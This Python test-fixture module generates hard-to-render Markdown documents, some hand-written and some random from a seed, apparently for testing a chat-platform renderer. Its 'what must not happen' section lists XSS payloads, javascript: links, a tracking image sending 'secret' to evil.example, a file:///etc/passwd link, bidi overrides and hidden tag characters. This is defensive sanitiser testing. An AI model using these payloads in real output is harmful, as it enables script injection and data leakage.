"""Documents that are hard to render: written by hand, and made by chance from a number."""

# ruff: noqa: E501 -- each document stands on one line where it can

import random

FAMILY = "👨‍👩‍👧‍👦"
FLAGS = "🇩🇪🇫🇷🏴󠁧󠁢󠁥󠁮󠁧󠁿"
ARABIC = "مرحبا بك في متجرنا، كيف يمكنني مساعدتك اليوم؟ "
HEBREW = "שלום, איך אפשר לעזור? "
CHINESE = "您的订单已于昨天发货，预计三天内送达。如果没有收到，请联系我们的客服人员。"
THAI = "สวัสดีครับต้องการความช่วยเหลืออะไรไหม"
HINDI = "क्षत्रिय स्त्री का प्रश्न है। "
ZALGO = "Z" + "͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍" * 8

HARD: dict[str, str] = {
    "nothing": "",
    "only white space": " \n\t\n ",
    "only invisible": "\u200b\u2060\u200d",
    "one word": "Yes",
    "plain prose": "Your order was sent. It comes on Monday, says the carrier.\n\nAnything else?",
    "citations": "Two days. [1] Or three [2][3]. See [12]! [0] [100] [01]\n\n[1]: https://evil.example",
    "citation before a bracket": "As said [1](here) and [2] (there), **[3]**(too)",
    "everything": """# Plans

Hello **world**, see [the *docs*](https://a.example/x?a=1&copy=2) and `code`.

| Plan | Price |
|:-----|------:|
| Basic | 3 |
| 专业版 | 10 |

1. one
   - two
     1. three

     more of three
2. four

> quote
> > inner
> > ```sql
> > SELECT 1
> > ```

```python
if a < b and c > d: print("&amp;")
```

---
~~old~~ ***both*** **a _b_ c**""",
    "nested lists": "\n".join(f"{'  ' * depth}- level {depth}" for depth in range(25)),
    "mixed nested lists": "\n".join(f"{'   ' * n}{n + 1}. step {n}\n{'   ' * n}   - b" for n in range(9)),
    "a list in a quote in a list": "- a\n  > - b\n  >   > c\n  >\n  >   d\n- e",
    "too deep": "> " * 200 + "deep words" + "\n\nand after",
    "too deep in lists": "- " * 300 + "deep words",
    "an item of many blocks": "1. a\n\n   b\n\n   ```\n   c\n   ```\n\n   > d\n\n   | e |\n   |---|\n   | f |\n2. g",
    "lists that follow": "- a\n- b\n\n* c\n* d\n\n1. e\n2. f\n\n1) g\n2) h",
    "a list from seven": "7. seven\n8. eight\n9. nine",
    "a number at its end": "999999999. last\n",
    "empty items": "- \n- a\n-\n1.\n2. b",
    "a wide table": "|" + "|".join(f"c{n}" for n in range(30)) + "|\n" + "|-" * 30 + "|\n"
    + ("|" + "|".join(f"v{n}" for n in range(30)) + "|\n") * 4,
    "a long table": "| n | word |\n|--:|------|\n"
    + "".join(f"| {n} | word{n} |\n" for n in range(700)),
    "a table of long cells": "|a|b|\n|-|-|\n" + ("|" + "long cell " * 200 + "|" + "other " * 90 + "|\n") * 5,
    "a table with looks": "| **a** | [b](https://b.example) |\n|---|---|\n| `c|d` | ~~e~~ \\| f |\n| | g |",
    "a table without rows": "| a | b |\n|---|---|",
    "a table of empty cells": "| a | b |\n|---|---|\n| | |\n| | |",
    "a ragged table": "|a" * 150 + "|\n" + "|-" * 150 + "|\n" + "|\n" * 600,
    "a huge code block": "```python\n" + "".join(f"line_{n} = {n}  # x\n" for n in range(3000)) + "```",
    "a code block of one line": "```\n" + "x = '<b>' & y " * 1500 + "\n```",
    "fences in fences": "````md\n```py\nx\n```\n````\n\n~~~\n```\n~~~",
    "a fence with words": "```this is not a language\ncode\n```\n\n```\n\n```\n```lost words",
    "indented code": "a\n\n    code <b>\n      more\n\nb",
    "code with backticks": "`` a`b `` and ``` `` ``` and ` x ` and `<!channel>` `<@U1>` `</code>`",
    "a word of 5000": "begin " + "abcdefghij" * 500 + " end",
    "a long sentence": "and " * 3000 + "end.",
    "a long link": "[" + "label " * 1500 + "](https://a.example/x)",
    "a long address": "[a](https://a.example/" + "x" * 5000 + ") <https://b.example/" + "y" * 1900 + ">",
    "many links": "".join(f"[w{n}](https://a.example/{n}) " for n in range(300)),
    "many marks": "".join(f"**a{n}** *b{n}* `c{n}` ~~d{n}~~ " for n in range(150)),
    "many marks without space": "".join(f"**a{n}**_b{n}_`c{n}`" for n in range(150)),
    "emoji families": (FAMILY + "👍🏽") * 1500,
    "flags": FLAGS * 900,
    "keycaps and hearts": "1️⃣❤️‍🔥" * 900,
    "heaps of marks": ZALGO * 40,
    "one heap of marks": "a" + "\u0301" * 9000 + " b",
    "arabic": ARABIC * 120,
    "arabic with english": f"{ARABIC} **API** {ARABIC} `pip install` [{ARABIC}](https://a.example) " * 20,
    "hebrew list": "\n".join(f"{n}. {HEBREW}" for n in range(1, 90)),
    "chinese": CHINESE * 150,
    "chinese without stops": "请把订单号码告诉我们的客服人员" * 400,
    "chinese marks": "这是**重要**的*消息*，请看`代码`和~~旧的~~[链接](https://a.example)吧。**“注意”**。",
    "chinese marks at stops": "**重要：**请注意。**“订单”**已发货，*（见下）*谢谢",
    "thai": THAI * 200,
    "hindi": HINDI * 200,
    "korean by letters": "한국어" * 700,
    "astral letters": "𝒽𝑒𝓁𝓁𝑜 " * 900,
    "literal signs": "2 * 3 * 4 = 24, snake_case_name, __init__, a ~ b ~~ c, #1 #tag, a|b, C:\\dir\\*",
    "signs at line starts": "a\n# b\n+ c\n1986\\. A year\n\\- d\n=\n| e\n: f\n> g\n    h",
    "an underlined heading": "Heading\n===\n\nOther\n---\n\ntext\n\n# closed #\n\n####### no heading",
    "entities": "&amp; &lt;b&gt; &#60;script&#62; &copy; &nosuch; &amp;lt; AT&T",
    "escapes": r"\*not bold\* \[no\](link) \`x\` \\ \<b> \& \_ \# \!",
    "breaks": "one\ntwo  \nthree\\\nfour\r\nfive\rsix\u2028seven\u2029eight",
    # half of what a model will have written
    "half a fence": "Run this:\n\n```python\nprint(1)\nprint(",
    "half a link": "See [the docs](https://a.example/par",
    "half a label": "See [the do",
    "half a bold": "This is **very impor",
    "half a table": "| a | b |\n|---|--",
    "half a row": "| a | b |\n|---|---|\n| 1 |",
    "half a citation": "Two days. [1",
    "half an image": "![a chart of",
    "half a list": "1. one\n2. two\n3.",
    "half a comment": "a <!-- b",
    "half an emoji": "ok 👨\u200d",
    # what must not happen
    "script": "<script>alert(1)</script> <SCRIPT SRC=//evil.example></SCRIPT>",
    "handlers": "<img src=x onerror=alert(1)> <svg/onload=alert(1)> <a href='javascript:alert(1)'>x</a>",
    "comments": "<!-- --> <![CDATA[ x ]]> <?php x ?> </p></div></body>",
    "bad addresses": "[a](javascript:alert(1)) [b](data:text/html,<script>) [c](vbscript:x) "
    "[d](JaVaScRiPt:x) [e](java\tscript:x) [f](&#106;avascript:x) [g](/admin) [h](//evil.example) [i](#x) "
    "[j](tg://user?id=1) [k](slack://user?team=T&id=U) [l](file:///etc/passwd)",
    "addresses that break out": '[a](https://a.example/"onmouseover="x) [b](https://a.example/<b>) '
    "[c](https://a.example/|evil) [d](https://a.example/>x) [e](https://a.example/') [f](<https://a.example/ x>)",
    "an image that reports": "![secret](https://evil.example/?q=secret) ![](https://evil.example/p.png)",
    "an image in a link": "[![alt](https://i.example/x.png)](https://a.example) ![a [b](https://c.example)](https://d.example)",
    "mentions of slack": "<!channel> <!here> <!everyone> <@U012ABC> <#C012> <!subteam^S01> <!date^1^{date}|x> "
    "<https://evil.example|https://bank.example> `<!channel>` @channel @here\n\n```\n<!channel> <@U1>\n```",
    "mentions by entities": "&lt;!channel&gt; &#60;@U012&#62; \\<!here\\> <\u200b!channel> <!chan**nel**>",
    "mentions across marks": "<!*chan*nel> **<**!channel**>** <[!channel](https://a.example)>",
    "mentions of telegram": "@durov @admin_bot a@b.example /start #tag **@durov** [@durov](https://t.me/durov) "
    "tg://user?id=1 [x](tg://user?id=1)",
    "overrides": "user\u202etxt.exe\u202c \u2067abc \u2066\u2066x\u2069 \u202b\u202a",
    "isolates in pairs": "\u2068محمد\u2069 wrote \u2067שלום\u2069.",
    "smuggled words": "hello\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 world",
    "zero width": "pass\u200bword ja\u200bvascript:alert(1) [x](java\u200bscript:alert(1)) **a\u200b** \ufeffz",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 a\x08b",
    "controls": "a\x00b\x01c\x0bd\x0ce\x7ff\x85g\ufff9h\ufffai\ufffb",
    "halves of pairs": "a\ud83db\udc00c",
    "overflow of entities": "*a* " * 500,
    "nested marks": "**a *b ~~c " * 300 + "x" + "~~ d* e**" * 300,
    "brackets": "[" * 500 + "x" + "]" * 500 + "(" * 200,
    "ticks": "".join("`" * n + "x" for n in range(1, 60)),
    "quotes": ">" * 50 + " a\n" + "> " * 30 + "b",
    "stars": "*" * 500 + " a " + "_" * 500 + " " + "~" * 501,
    "pipes": "|" * 300 + "\n" + "|-" * 20 + "\n" + "|" * 300,
    "a title that breaks out": '[x](https://a.example "title\\" onclick=x") <https://a.example?a="b">',
}  # fmt: skip

_WORDS = [
    "order", "refund", "the", "in", "Paris", "naïve", "2024", "3.50", "don't", "e.g.", "Müller", "订单",
    "退款政策", "مرحبا", "שלום", "สวัสดี", "🙂", FAMILY, "👍🏽", "🇩🇪", "x", "_", "*", "snake_case", "a@b.example",
    "https://a.example/p?q=1&r=2", "<b>", "</p>", "&", "&lt;", "<!channel>", "<@U1>", "@durov", "[1]", "[2]",
    "\\", "`", "|", "#", "!", "~~", "\u200b", "\u202e", "\x1b[1m", "(", ")", "[", "]", "：", "。", "“", "”", "C++",
    "superlongword" * 12,
]  # fmt: skip


LONGEST = 6_000
"""Characters of a document by chance: more than a message of Telegram or a section of Slack."""


def made(seed: int) -> str:
    """A document by chance: always the same for the same number."""
    chance = random.Random(seed)
    blocks = [_block(chance, 0) for _ in range(chance.choice([1, 2, 3, 5, 8, 30]))]
    text = "\n\n".join(blocks)[:LONGEST]
    match chance.randrange(5):
        case 0:
            return text[: chance.randrange(len(text) + 1)]
        case 1:
            at = chance.randrange(len(text) + 1)
            return text[:at] + chance.choice(list(HARD.values()))[:300] + text[at:]
        case _:
            return text


def documents(count: int) -> dict[str, str]:
    """Those by hand, and as many by chance as there must be more."""
    return HARD | {f"made from {seed}": made(seed) for seed in range(count - len(HARD))}


def _block(chance: random.Random, depth: int) -> str:
    kinds = [_prose, _prose, _prose, _heading, _code, _table]
    if depth < 4:
        kinds += [_listing, _listing, _quote]
    return chance.choice(kinds)(chance, depth)


def _prose(chance: random.Random, depth: int) -> str:
    count = chance.choice([1, 5, 20, 120]) if depth < 2 else chance.choice([1, 4])
    return chance.choice([" ", " ", "", "\n"]).join(_said(chance) for _ in range(count))


_SAYINGS = (
    "**{0} {1}**", "*{0}*", "~~{0}~~", "`{0}`", "[{0} {1}](https://a.example/{2})", "{0}. ",
    "**{0}*{1}*", "![{0}](https://i.example/x.png)", *["{0}"] * 6,
)  # fmt: skip


def _said(chance: random.Random) -> str:
    saying = chance.choice(_SAYINGS)
    return saying.format(chance.choice(_WORDS), chance.choice(_WORDS), chance.randrange(99))


def _heading(chance: random.Random, depth: int) -> str:
    return "#" * chance.randrange(1, 7) + " " + _said(chance)


def _code(chance: random.Random, depth: int) -> str:
    lines = [" ".join(chance.choices(_WORDS, k=4)) for _ in range(chance.choice([1, 3, 90]))]
    return f"```{chance.choice(['', 'python', 'c++'])}\n" + "\n".join(lines) + "\n```"


def _table(chance: random.Random, depth: int) -> str:
    columns = chance.choice([1, 2, 3, 22])
    rows = [
        "|".join(_said(chance) for _ in range(columns)) for _ in range(chance.choice([1, 3, 60]))
    ]
    rows.insert(1, "|".join(chance.choice(["---", ":--", "--:", ":-:"]) for _ in range(columns)))
    return "\n".join(f"|{row}|" for row in rows)


def _listing(chance: random.Random, depth: int) -> str:
    signs = chance.choice([["- "], ["1. ", "2. ", "3. "], ["5) "], ["* "]])
    items = []
    for number in range(chance.choice([1, 2, 3, 25])):
        sign = signs[number % len(signs)]
        inner = "\n\n".join(_block(chance, depth + 2) for _ in range(chance.choice([1, 1, 2])))
        items.append(sign + inner.replace("\n", "\n" + " " * len(sign)))
    return "\n".join(items)


def _quote(chance: random.Random, depth: int) -> str:
    return "> " + _block(chance, depth + 1).replace("\n", "\n> ")
